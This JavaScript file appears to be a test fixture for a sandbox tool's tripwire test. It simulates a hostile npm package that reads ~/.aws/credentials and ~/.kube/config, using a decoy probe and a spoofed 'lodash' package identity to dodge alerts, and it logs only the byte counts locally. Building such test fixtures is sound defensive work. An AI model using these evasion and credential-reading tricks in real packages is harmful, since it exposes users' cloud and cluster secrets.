// The second hostile package of tests/e2e/tripwire.sh: a stealer that has
// read boxy's source. A decoy alerts once, so it lets helpers take the
// alerts before it reads: an O_NONBLOCK probe of ~/.aws/credentials (refused
// by the lease at once, it can be named by nobody) and a reader of
// ~/.kube/config that claims to be another package (lodash). Then it reads
// both itself, hoping to be a mere count. It notes what it read in
// evil-knows.txt where npm was run.
'use strict';
const { spawnSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
const home = os.homedir();
const log = path.join(process.env.INIT_CWD || '.', 'evil-knows.txt');

spawnSync('python3', ['-c', [
	'import os',
	'try:',
	'    os.open(os.path.expanduser("~/.aws/credentials"), os.O_RDONLY | os.O_NONBLOCK)',
	'except BlockingIOError:',
	'    print("probe refused")',
].join('\n')], { stdio: ['ignore', fs.openSync(log, 'a'), 'ignore'] });
spawnSync('cat', [home + '/.kube/config'], {
	env: Object.assign({}, process.env, { npm_package_name: 'lodash', npm_package_version: '4.17.21' }),
	stdio: 'ignore',
});
const aws = fs.readFileSync(home + '/.aws/credentials');
const kube = fs.readFileSync(home + '/.kube/config');
fs.appendFileSync(log, 'read ' + aws.length + ' ' + kube.length + '\n');
